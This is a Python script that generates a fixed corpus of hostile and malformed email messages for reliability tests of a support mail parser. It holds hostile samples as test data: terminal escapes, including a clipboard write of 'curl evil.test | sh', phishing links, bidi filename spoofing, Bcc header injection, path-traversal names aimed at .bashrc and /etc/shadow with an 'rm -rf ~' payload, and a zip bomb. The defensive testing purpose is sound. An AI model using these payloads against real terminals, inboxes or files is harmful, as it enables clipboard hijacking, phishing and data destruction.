"""Generate the hostile and broken message corpus in ``tests/reliability/corpus/``.

Run once (``python -m tests.reliability.make_corpus``); the output is committed so every
test run sees exactly the same bytes. The script is deterministic: no clock, no randomness
without a fixed seed. Each file name says what the message attacks or breaks.
"""

from __future__ import annotations

import base64
import io
import random
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

CORPUS = Path(__file__).resolve().parent / "corpus"

ESC = "\x1b"
CSI_CLEAR = ESC + "[2J" + ESC + "[H"
CSI_RED = ESC + "[31;1m"
OSC8 = ESC + "]8;;https://evil.test/phish" + ESC + "\\click me" + ESC + "]8;;" + ESC + "\\"
OSC52 = ESC + "]52;c;" + base64.b64encode(b"curl evil.test | sh").decode() + "\x07"
TITLE = ESC + "]0;pwned\x07"
C0 = "".join(chr(c) for c in range(0x20) if chr(c) not in "\r\n\t")
C1 = "".join(chr(c) for c in range(0x80, 0xA0))
HOSTILE = f"{CSI_RED}{OSC8}{OSC52}{TITLE}{C0}{C1}\u202eexe.pdf"
RICH = "[bold red]URGENT[/bold red] [link=https://evil.test]pay here[/link] [/] [reverse]"

DATE = "Tue, 10 Mar 2026 09:30:00 +0000"

Builder = Callable[[], bytes]
CASES: dict[str, Builder] = {}


def case(name: str) -> Callable[[Builder], Builder]:
    def register(func: Builder) -> Builder:
        CASES[name] = func
        return func

    return register


def _b(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode("utf-8")


def message(
    headers: list[tuple[str, str | bytes]] | None = None,
    body: str | bytes = "Hello, please help.\n",
    *,
    defaults: bool = True,
    ident: str = "",
    eol: bytes = b"\r\n",
) -> bytes:
    """Assemble raw bytes; ``defaults`` adds From/To/Date/Message-ID/Subject unless given."""
    given = {name.lower() for name, _ in headers or []}
    fields: list[tuple[str, str | bytes]] = []
    if defaults:
        standard = [
            ("From", "Customer <customer@customer.test>"),
            ("To", "Acme Support <support@acme.test>"),
            ("Subject", f"corpus {ident}"),
            ("Date", DATE),
            ("Message-ID", f"<{ident or 'corpus'}@corpus.test>"),
            ("MIME-Version", "1.0"),
        ]
        fields += [(n, v) for n, v in standard if n.lower() not in given]
    fields += headers or []
    head = b"".join(_b(name) + b": " + _b(value) + eol for name, value in fields)
    return head + eol + _b(body).replace(b"\r\n", b"\n").replace(b"\n", eol)


def ew(text: str, charset: str = "utf-8", encoding: str = "b") -> str:
    """An RFC 2047 encoded word (the charset label may lie about the bytes)."""
    data = text.encode("utf-8") if charset.lower() in ("utf-8", "x-unknown", "x-klingon") else b""
    if not data:
        try:
            data = text.encode(charset)
        except (LookupError, UnicodeEncodeError):
            data = text.encode("utf-8")
    if encoding == "b":
        return f"=?{charset}?B?{base64.b64encode(data).decode()}?="
    quoted = "".join(chr(c) if chr(c).isalnum() else f"={c:02X}" for c in data)
    return f"=?{charset}?Q?{quoted}?="


def multipart(parts: list[bytes], boundary: str, subtype: str = "mixed") -> tuple[str, bytes]:
    body = b"".join(b"--" + boundary.encode() + b"\r\n" + part + b"\r\n" for part in parts)
    body += b"--" + boundary.encode() + b"--\r\n"
    return f'multipart/{subtype}; boundary="{boundary}"', body


def part(content_type: str, payload: bytes, extra: str = "", cte: str | None = None) -> bytes:
    head = f"Content-Type: {content_type}\r\n"
    if cte:
        head += f"Content-Transfer-Encoding: {cte}\r\n"
    head += extra
    return head.encode() + b"\r\n" + payload


def attachment(filename_header: str, payload: bytes, content_type: str = "application/octet-stream") -> bytes:
    encoded = base64.encodebytes(payload)
    return part(
        content_type, encoded, extra=f"Content-Disposition: attachment; {filename_header}\r\n", cte="base64"
    )


# --- terminal escapes and controls in every header and body ----------------------------------


@case("escapes-in-subject")
def _() -> bytes:
    return message([("Subject", f"Refund {HOSTILE} now")], ident="esc-subject")


@case("escapes-in-from-name")
def _() -> bytes:
    return message([("From", f'"{CSI_CLEAR}Bank{OSC8}" <bank@customer.test>')], ident="esc-from")


@case("escapes-in-from-address")
def _() -> bytes:
    return message([("From", f"x{ESC}[31m@customer{ESC}]52;c;Zm9v\x07.test")], ident="esc-addr")


@case("escapes-in-to-cc-replyto")
def _() -> bytes:
    return message(
        [
            ("To", f'"{CSI_RED}support" <support@acme.test>'),
            ("Cc", f'"{OSC52}" <cc@customer.test>'),
            ("Reply-To", f'"{TITLE}" <reply@customer.test>'),
        ],
        ident="esc-to",
    )


@case("escapes-in-body")
def _() -> bytes:
    return message(body=f"Hi\n{CSI_CLEAR}{HOSTILE}\nfake prompt $ {OSC52}\n", ident="esc-body")


@case("escapes-in-encoded-words")
def _() -> bytes:
    return message(
        [
            ("Subject", ew(f"Invoice {CSI_CLEAR}{OSC8}")),
            ("From", f"{ew(f'{TITLE}Support Team', encoding='q')} <a@customer.test>"),
        ],
        ident="esc-ew",
    )


@case("escapes-in-message-ids")
def _() -> bytes:
    return message(
        [
            ("Message-ID", f"<id{ESC}[2J@corpus.test>"),
            ("In-Reply-To", f"<{OSC52}@corpus.test>"),
            ("References", f"<a{ESC}]0;x\x07@corpus.test> <b@corpus.test>"),
        ],
        ident="esc-ids",
    )


@case("escapes-in-date")
def _() -> bytes:
    return message([("Date", f"Tue, 10 Mar 2026 09:30:00 +0000 {CSI_CLEAR}")], ident="esc-date")


@case("escapes-in-attachment-name")
def _() -> bytes:
    ctype, body = multipart(
        [
            part("text/plain; charset=utf-8", b"see attached"),
            attachment(f'filename="{CSI_CLEAR}report{OSC8}.pdf"', b"%PDF-1.4 fake"),
        ],
        "b-escname",
    )
    return message([("Content-Type", ctype)], body, ident="esc-attname")


@case("escapes-in-html-entities")
def _() -> bytes:
    html = (
        "<html><body><p>Hi&#27;[2J&#x1b;]52;c;Zm9v&#7;</p><a href='javascript:alert(1)'>x</a>"
        "<script>alert('x')</script><p>&#x202e;fdp.exe</p></body></html>"
    )
    return message([("Content-Type", "text/html; charset=utf-8")], html, ident="esc-html")


@case("escapes-in-spam-and-auth-headers")
def _() -> bytes:
    return message(
        [
            ("X-Spam-Status", f"Yes, score=99 {CSI_RED}"),
            ("X-Spam-Flag", f"YES{ESC}[0m"),
            ("Authentication-Results", f"mx.acme.test; dkim=pass {OSC8}; spf=pass"),
            ("List-Unsubscribe", f"<https://evil.test/{ESC}]52;c;AAAA\x07>"),
        ],
        ident="esc-spam",
    )


@case("c0-controls-everywhere")
def _() -> bytes:
    return message(
        [("Subject", f"a{C0}b"), ("From", f'"n{C0}m" <c0@customer.test>')],
        body=f"body{C0}end\n",
        ident="c0",
    )


@case("c1-controls-utf8")
def _() -> bytes:
    return message(
        [("Subject", f"a{C1}b"), ("Content-Type", "text/plain; charset=utf-8")],
        body=f"body{C1}\u009b2Jend\n",
        ident="c1",
    )


@case("c1-controls-latin1-raw")
def _() -> bytes:
    return message(
        [("Subject", b"raw \x9b2J \x9d0;t\x07 c1"), ("Content-Type", "text/plain; charset=iso-8859-1")],
        body=b"body \x9b31m red \x85 nel\n",
        ident="c1-raw",
    )


@case("utf7-smuggled-escape")
def _() -> bytes:
    # "+ABs-" is ESC in UTF-7.
    return message(
        [("Content-Type", "text/plain; charset=utf-7"), ("Subject", "=?utf-7?Q?x+ABs-[2J?=")],
        body="Hello +ABs-[2J+ABs-]52;c;Zm9v+AAc- world\n",
        ident="utf7",
    )


# --- Rich markup and bidi -----------------------------------------------------------------


@case("rich-markup-subject")
def _() -> bytes:
    return message([("Subject", RICH)], ident="rich-subject")


@case("rich-markup-from-and-body")
def _() -> bytes:
    return message(
        [("From", '"[bold]CEO[/bold] [link=https://evil.test]" <ceo@customer.test>')],
        body=f"{RICH}\n[/]\\[escaped] [red]x\n:warning: :smile:\n",
        ident="rich-from",
    )


@case("rich-markup-attachment-name")
def _() -> bytes:
    ctype, body = multipart(
        [part("text/plain", b"see"), attachment('filename="[red]invoice[/red].pdf"', b"x")], "b-rich"
    )
    return message([("Content-Type", ctype)], body, ident="rich-att")


@case("bidi-override-subject-and-filename")
def _() -> bytes:
    ctype, body = multipart(
        [
            part("text/plain; charset=utf-8", "Invoice attached \u202eexe.pdf".encode()),
            attachment("filename*=utf-8''invoice%E2%80%AEgpj.exe", b"MZ fake"),
        ],
        "b-bidi",
    )
    return message(
        [("Subject", ew("Your invoice \u202efdp.exe \u2066isolate\u2069")), ("Content-Type", ctype)],
        body,
        ident="bidi",
    )


@case("rtl-arabic")
def _() -> bytes:
    return message(
        [
            ("From", f"{ew('ليلى حداد')} <layla@customer.test>"),
            ("Subject", ew("عاجل: لا يعمل تسجيل الدخول")),
            ("Content-Type", "text/plain; charset=utf-8"),
            ("Content-Transfer-Encoding", "8bit"),
        ],
        body="مرحبا، لا أستطيع تسجيل الدخول منذ الصباح. رقم الطلب 12345.\n",
        ident="arabic",
    )


@case("rtl-persian-zwnj")
def _() -> bytes:
    return message(
        [
            ("From", f"{ew('سارا رضایی')} <sara@customer.test>"),
            ("Subject", ew("فوری: حساب کار نمی\u200cکند")),
            ("Content-Type", "text/plain; charset=utf-8"),
            ("Content-Transfer-Encoding", "8bit"),
        ],
        body="سلام، می\u200cخواهم بازپرداخت کنم.\n",
        ident="persian",
    )


@case("rtl-mixed-with-overrides")
def _() -> bytes:
    return message(
        [
            ("Subject", ew("שלום \u202dabc\u202c مرحبا \u200f\u200e")),
            ("Content-Type", "text/plain; charset=utf-8"),
        ],
        body="عربي english \u202e reversed \u202c\n".encode(),
        ident="rtl-mixed",
    )


# --- charsets ------------------------------------------------------------------------------


@case("rfc2047-unknown-charset")
def _() -> bytes:
    return message(
        [
            ("Subject", ew("hello", charset="x-unknown")),
            ("From", f"{ew('Bob', 'x-klingon', 'q')} <b@c.test>"),
        ],
        ident="cs-unknown",
    )


@case("rfc2047-lying-charset")
def _() -> bytes:
    # Declares utf-8 but carries Latin-1 bytes; and iso-2022-jp with invalid escapes.
    lying = "=?utf-8?B?" + base64.b64encode("Grüße café".encode("latin-1")).decode() + "?="
    jp = "=?iso-2022-jp?B?" + base64.b64encode(b"\x1b$B\xff\xfe\x1b(B").decode() + "?="
    return message([("Subject", f"{lying} {jp}")], ident="cs-lying")


@case("rfc2047-malformed-words")
def _() -> bytes:
    return message(
        [("Subject", "=?utf-8?B?####?= =?utf-8?Q?=ZZ=?= =?utf-8?X?abc?= =?==?= =?utf-8??=")],
        ident="cs-malformed",
    )


@case("body-unknown-charset")
def _() -> bytes:
    return message(
        [("Content-Type", "text/plain; charset=x-klingon")], b"tlhIngan Hol \xff\xfe\n", ident="b-unk"
    )


@case("body-lying-utf8")
def _() -> bytes:
    return message(
        [("Content-Type", "text/plain; charset=utf-8")],
        b"caf\xe9 na\xefve \xc3\x28 \xed\xa0\x80\n",
        ident="b-lie",
    )


@case("body-utf16-without-bom")
def _() -> bytes:
    return message(
        [("Content-Type", "text/plain; charset=utf-16"), ("Content-Transfer-Encoding", "base64")],
        base64.encodebytes("hello \x1b[2J".encode("utf-16-le")),
        ident="b-utf16",
    )


@case("eight-bit-headers-utf8")
def _() -> bytes:
    return message(
        [("From", "Jürgen Müller <jm@customer.test>"), ("Subject", "Rückerstattung dringend – مرحبا")],
        ident="8bit-utf8",
    )


@case("eight-bit-headers-latin1")
def _() -> bytes:
    return message(
        [("From", b"J\xfcrgen <j@customer.test>"), ("Subject", b"R\xfcckerstattung \xff\xfe")], ident="8b-l1"
    )


# --- NULs, huge lines, many headers ---------------------------------------------------------


@case("eight-bit-message-ids")
def _() -> bytes:
    return message(
        [
            ("Message-ID", b"<\xff\xfe-8bit@corpus.test>"),
            ("In-Reply-To", b"<caf\xe9@corpus.test>"),
            ("References", b"<\xc3@corpus.test> <ok@corpus.test>"),
        ],
        ident="8bit-ids",
    )


@case("nul-in-headers")
def _() -> bytes:
    return message([("Subject", "null\x00byte"), ("From", "a\x00b <nul@customer.test>")], ident="nul-h")


@case("nul-in-body")
def _() -> bytes:
    return message(body=b"before\x00after\x00\x00\n" * 10, ident="nul-b")


@case("one-megabyte-subject")
def _() -> bytes:
    return message([("Subject", "A" * 1_000_000)], ident="mb-subject")


@case("one-megabyte-header-line")
def _() -> bytes:
    return message([("X-Padding", "x" * 1_000_000)], ident="mb-header")


@case("ten-thousand-headers")
def _() -> bytes:
    return message([(f"X-H{i}", f"v{i}") for i in range(10_000)], ident="many-headers")


@case("encoded-word-flood")
def _() -> bytes:
    return message([("Subject", " ".join(ew(f"w{i}") for i in range(20_000)))], ident="ew-flood")


@case("huge-address-list")
def _() -> bytes:
    return message([("To", ", ".join(f"u{i}@customer.test" for i in range(20_000)))], ident="addr-flood")


@case("content-type-thousand-params")
def _() -> bytes:
    params = "; ".join(f"p{i}=v{i}" for i in range(1000))
    return message([("Content-Type", f"text/plain; charset=utf-8; {params}")], ident="params")


@case("zalgo-combining-marks")
def _() -> bytes:
    zalgo = "Z" + "\u0301\u0316\u0337" * 2000
    return message([("Subject", ew(zalgo))], body=zalgo + "\n", ident="zalgo")


# --- structure -------------------------------------------------------------------------------


@case("nested-multipart-1000-levels")
def _() -> bytes:
    inner = part("text/plain", b"the bottom")
    for level in range(999):
        ctype, body = multipart([inner], f"n{level}")
        inner = f"Content-Type: {ctype}\r\n\r\n".encode() + body
    ctype, body = multipart([inner], "n-top")
    return message([("Content-Type", ctype)], body, ident="nest")


@case("nested-rfc822-200-levels")
def _() -> bytes:
    inner = message(ident="nested-bottom")
    for _level in range(200):
        inner = message([("Content-Type", "message/rfc822")], inner, ident="nested-rfc822")
    return inner


@case("multipart-missing-boundary")
def _() -> bytes:
    return message([("Content-Type", "multipart/mixed")], b"--x\r\nhello\r\n--x--\r\n", ident="mp-nob")


@case("multipart-unterminated")
def _() -> bytes:
    body = b"--u\r\nContent-Type: text/plain\r\n\r\nhello\r\n--u\r\nContent-Type: text/html\r\n\r\n<p>cut"
    return message([("Content-Type", 'multipart/alternative; boundary="u"')], body, ident="mp-unterm")


@case("multipart-empty")
def _() -> bytes:
    return message([("Content-Type", 'multipart/mixed; boundary="e"')], b"--e--\r\n", ident="mp-empty")


@case("zip-bomb-attachment")
def _() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros.bin", b"\0" * 100_000_000)
    ctype, body = multipart(
        [
            part("text/plain", b"logs attached"),
            attachment('filename="logs.zip"', buffer.getvalue(), "application/zip"),
        ],
        "b-zip",
    )
    return message([("Content-Type", ctype)], body, ident="zipbomb")


@case("base64-bomb-text-body")
def _() -> bytes:
    payload = base64.encodebytes(b"all work and no play " * 30_000)
    return message(
        [("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "base64")],
        payload,
        ident="b64bomb",
    )


@case("html-nesting-bomb")
def _() -> bytes:
    html = "<div>" * 20_000 + "deep" + "</div>" * 20_000
    return message([("Content-Type", "text/html; charset=utf-8")], html, ident="htmlbomb")


@case("html-table-bomb")
def _() -> bytes:
    html = "<table>" + "<tr>" + "<td>x</td>" * 3000 + "</tr>" * 1 + "</table>"
    return message([("Content-Type", "text/html; charset=utf-8")], html * 5, ident="tablebomb")


@case("invalid-base64-body")
def _() -> bytes:
    return message(
        [("Content-Type", "text/plain"), ("Content-Transfer-Encoding", "base64")],
        b"!!!!not base64 at all====\r\n@@@\r\nSGVsbG8=extra",
        ident="bad-b64",
    )


@case("invalid-quoted-printable")
def _() -> bytes:
    return message(
        [("Content-Type", "text/plain"), ("Content-Transfer-Encoding", "quoted-printable")],
        b"=ZZ=1=\r\n=E9=C3=28 soft=\r\nbreak =1B[2J",
        ident="bad-qp",
    )


@case("unknown-transfer-encoding")
def _() -> bytes:
    return message(
        [("Content-Type", "text/plain"), ("Content-Transfer-Encoding", "x-uuencode-deluxe")],
        b"begin 644 x\n#86)C\n`\nend\n",
        ident="bad-cte",
    )


@case("attachment-name-traversal")
def _() -> bytes:
    ctype, body = multipart(
        [
            part("text/plain", b"see attachments"),
            attachment('filename="../../../../home/user/.bashrc"', b"rm -rf ~"),
            attachment("filename*=utf-8''%2E%2E%2F%2E%2E%2Fetc%2Fpasswd", b"root::0:0"),
            attachment('filename="/etc/shadow"', b"x"),
            attachment('filename="C:\\Windows\\System32\\cmd.exe"', b"MZ"),
            attachment('filename="CON"', b"dev"),
            attachment('filename=""', b"empty"),
            attachment('filename="a\x00b.txt"', b"nul"),
        ],
        "b-trav",
    )
    return message([("Content-Type", ctype)], body, ident="att-traversal")


@case("attachment-rfc2231-continuations")
def _() -> bytes:
    header = "".join(f"filename*{i}*=utf-8''%2E%2E%2F{i:03d}; " for i in range(300)).rstrip("; ")
    ctype, body = multipart([part("text/plain", b"x"), attachment(header, b"data")], "b-2231")
    return message([("Content-Type", ctype)], body, ident="att-2231")


@case("message-partial-and-external")
def _() -> bytes:
    ctype, body = multipart(
        [
            part('message/partial; id="abc"; number=1; total=2', b"Subject: part\r\n\r\nhalf"),
            part(
                'message/external-body; access-type=URL; URL="file:///etc/passwd"',
                b"Content-Type: text/plain\r\n\r\n",
            ),
        ],
        "b-partial",
    )
    return message([("Content-Type", ctype)], body, ident="partial")


# --- identity and time ----------------------------------------------------------------------


@case("missing-message-id")
def _() -> bytes:
    return message([("Message-ID", "")], ident="no-msgid").replace(b"Message-ID: \r\n", b"")


@case("duplicate-message-id-a")
def _() -> bytes:
    return message([("Message-ID", "<same@corpus.test>"), ("Subject", "first with this id")], ident="dup-a")


@case("duplicate-message-id-b")
def _() -> bytes:
    return message([("Message-ID", "<same@corpus.test>"), ("Subject", "second with this id")], ident="dup-b")


@case("two-message-id-headers")
def _() -> bytes:
    return message(
        [("Message-ID", "<one@corpus.test>"), ("Message-ID", "<two@corpus.test>")], ident="two-ids"
    )


@case("message-id-garbage")
def _() -> bytes:
    return message([("Message-ID", "<<<>>> no angle @@ " + "<" * 500)], ident="garbage-id")


@case("date-far-future")
def _() -> bytes:
    return message([("Date", "Fri, 31 Dec 2099 23:59:59 +0000")], ident="future")


@case("date-unparsable")
def _() -> bytes:
    return message([("Date", "sometime last tuesday-ish")], ident="bad-date")


@case("date-out-of-range")
def _() -> bytes:
    return message([("Date", "Mon, 31 Feb 99999 25:61:61 +9999")], ident="range-date")


@case("date-year-zero-and-epoch")
def _() -> bytes:
    return message([("Date", "Sat, 01 Jan 0000 00:00:00 -2400")], ident="zero-date")


@case("references-loop-a")
def _() -> bytes:
    return message(
        [
            ("Message-ID", "<loop-a@corpus.test>"),
            ("In-Reply-To", "<loop-b@corpus.test>"),
            ("References", "<loop-b@corpus.test>"),
        ],
        ident="loop-a",
    )


@case("references-loop-b")
def _() -> bytes:
    return message(
        [
            ("Message-ID", "<loop-b@corpus.test>"),
            ("In-Reply-To", "<loop-a@corpus.test>"),
            ("References", "<loop-a@corpus.test>"),
        ],
        ident="loop-b",
    )


@case("references-self")
def _() -> bytes:
    return message(
        [
            ("Message-ID", "<self@corpus.test>"),
            ("In-Reply-To", "<self@corpus.test>"),
            ("References", "<self@corpus.test> <self@corpus.test>"),
        ],
        ident="self-ref",
    )


@case("references-five-thousand")
def _() -> bytes:
    refs = " ".join(f"<r{i}@corpus.test>" for i in range(5000))
    return message([("References", refs)], ident="many-refs")


# --- shape ---------------------------------------------------------------------------------


@case("missing-from")
def _() -> bytes:
    return message([("From", "")], ident="no-from").replace(b"From: \r\n", b"")


@case("weird-from-addresses")
def _() -> bytes:
    return message(
        [
            ("From", '<<<@@@>>>, undisclosed-recipients:;, "quoted\\" name" <a@b>, @@'),
            ("From", "second@x.test"),
        ],
        ident="weird-from",
    )


@case("header-injection-in-names")
def _() -> bytes:
    injected = "Evil\r\nBcc: victim@evil.test\r\nX-Injected: yes"
    return message(
        [
            ("From", f"{ew(injected, encoding='q')} <evil@customer.test>"),
            ("Subject", ew("Hi\r\nBcc: victim@evil.test")),
            ("Reply-To", f"{ew(injected)} <reply@evil.test>"),
        ],
        ident="inject",
    )


@case("headers-only")
def _() -> bytes:
    return b"From: a@customer.test\r\nSubject: no body\r\nMessage-ID: <headers-only@corpus.test>\r\n"


@case("no-header-separator")
def _() -> bytes:
    return b"just some text that is not a header\r\nand more\r\n"


@case("empty-message")
def _() -> bytes:
    return b""


@case("random-binary")
def _() -> bytes:
    rng = random.Random(1234)
    return bytes(rng.randrange(256) for _ in range(4096))


@case("bare-lf-and-cr")
def _() -> bytes:
    return b"From: lf@customer.test\nSubject: bare LF\rMessage-ID: <lf@corpus.test>\n\nbody\rline\nend"


@case("obs-folding-and-whitespace")
def _() -> bytes:
    return message([("Subject", "folded\r\n \r\n\t\r\n  line"), ("X-Empty", "")], ident="folding")


def main() -> None:
    if CORPUS.exists():
        shutil.rmtree(CORPUS)
    CORPUS.mkdir()
    for number, (name, build) in enumerate(CASES.items(), start=1):
        (CORPUS / f"{number:03d}-{name}.eml").write_bytes(build())
    print(f"wrote {len(CASES)} messages to {CORPUS}")


if __name__ == "__main__":
    main()
